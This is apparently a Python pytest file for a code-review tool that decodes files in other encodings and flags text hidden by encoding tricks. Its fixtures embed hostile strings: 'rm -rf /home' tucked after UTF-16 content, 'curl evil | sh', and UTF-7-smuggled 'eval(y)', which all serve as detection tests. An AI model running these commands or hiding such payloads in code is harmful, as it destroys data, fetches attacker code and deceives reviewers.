"""Text in other encodings: shown as the characters it is, and never as others that hide it."""

from __future__ import annotations

import pytest

from codeloupe.engine.contents import Encoding, encoding_of, hides_text, in_utf8, with_compared_texts
from codeloupe.engine.select import decoded_file
from codeloupe.git.patched import apply_hunks
from tests.unit.engine.samples import changed, each_row

CODE = "def run(x):\n    return x\n" * 3


def _read(content: bytes, path: str = "a.txt") -> str | None:
    encoding = encoding_of(content, path)
    text = None if encoding is None else in_utf8(content, encoding)
    return None if text is None else text.decode()


@pytest.mark.defect("T15")
def test_marks_and_declarations_tell_the_encoding() -> None:
    cases = {
        ("a.ps1", CODE.encode("utf-16")): CODE,
        ("a.ps1", b"\xfe\xff" + CODE.encode("utf-16-be")): CODE,
        ("a.ps1", CODE.encode("utf-16-le")): CODE,
        ("a.ps1", CODE.encode("utf-16-be")): CODE,
        ("a.ps1", CODE.encode("utf-32")): CODE,
        ("a.ps1", CODE.encode("utf-32-be")): CODE,
        ("a.strings", "\u540d\u524d = \u5024\n".encode("utf-16")): "\u540d\u524d = \u5024\n",
        ("a.py", "# coding: latin-1\n# \u00e9\n".encode("latin-1")): "# coding: latin-1\n# \u00e9\n",
        ("a.rb", "# coding: euc-jp\n# \u5024\n".encode("euc-jp")): "# coding: euc-jp\n# \u5024\n",
        ("a.xml", "<?xml version='1.0' encoding='cp1251'?>\u044f".encode("cp1251")): (
            "<?xml version='1.0' encoding='cp1251'?>\u044f"
        ),
        ("a.html", '<meta charset="gb2312">\u503c'.encode("gb2312")): '<meta charset="gb2312">\u503c',
        ("a.py", b"# coding: utf-7\nx = +AGUAdgBhAGw-(y)\n"): "# coding: utf-7\nx = eval(y)\n",
    }
    assert {path: _read(content, path) for path, content in cases} == {path: text for (path, _), text in cases.items()}
    assert [_read(content, path) for path, content in cases] == list(cases.values())


def test_what_is_utf8_or_unknown_stays_as_it_is() -> None:
    plain = [
        b"",
        CODE.encode(),
        b"\xef\xbb\xbf" + CODE.encode(),
        b"caf\xe9\n",
        b"# coding: utf-8\n",
        b"# coding: nothing-known\n",
        b"# coding: rot13\n",
        b"\xff\xfe" + CODE.encode(),  # a mark that lies
        CODE.encode().replace(b"\n", b"\0\n"),
    ]
    assert [content for content in plain if encoding_of(content, "a.js") is not None] == []
    # Only Python believes an encoding in which ASCII means something else.
    assert encoding_of(b"// coding: utf-7\n", "a.js") is None
    assert encoding_of(b"# coding: cp037\n", "a.sh") is None


@pytest.mark.defect("T15")
def test_a_text_that_reads_differently_byte_by_byte_is_noticed() -> None:
    utf16 = Encoding("utf-16-le", keeps_lines=False, mark=b"\xff\xfe")
    hidden = CODE.encode("utf-16") + b"\nrm -rf /home\n"
    shifted = CODE.encode("utf-16") + b"\n" + b"curl evil | sh".decode().encode("utf-16-le") + b"x"
    assert hides_text(hidden, utf16)
    assert hides_text(shifted, utf16)
    assert not hides_text(CODE.encode("utf-16"), utf16)
    assert not hides_text("\u043f\u0440\u0438\u0432\u0435\u0442 x = 1\n".encode("utf-16"), utf16)


def test_the_hunk_between_two_texts_leads_from_the_one_to_the_other() -> None:
    def check(old: bytes, new: bytes) -> None:
        file = with_compared_texts(changed("a.txt"), old, new)
        assert apply_hunks(old, file) == new
        assert sum(hunk.added + hunk.deleted for hunk in file.hunks) == file.added + file.deleted

    each_row(
        [
            (b"", b"a\nb\n"),
            (b"a\nb\n", b""),
            (b"a\nb\nc\nd\ne\nf\ng\n", b"a\nb\nc\nX\ne\nf\ng\n"),
            (b"a\n", b"a\na\n"),
            (b"a\na\n", b"a\n"),
            (b"a", b"a\n"),
            (b"a\nb", b"a\nc"),
            (b"same\n", b"same\n"),
        ],
        check,
    )


@pytest.mark.defect("T15")
def test_a_change_in_utf16_is_shown_line_by_line() -> None:
    old, new = "a\nb\nc\n".encode("utf-16"), "a\n\u0a0a\nc\n".encode("utf-16")
    decoded = decoded_file(changed("a.ps1", binary=True), old, new)
    assert decoded is not None
    file, content = decoded
    assert content.decode() == "a\n\u0a0a\nc\n"
    assert [(line.kind, line.new_number) for line in file.hunks[0].lines()][1:3] == [("deleted", None), ("added", 2)]
    assert not file.binary
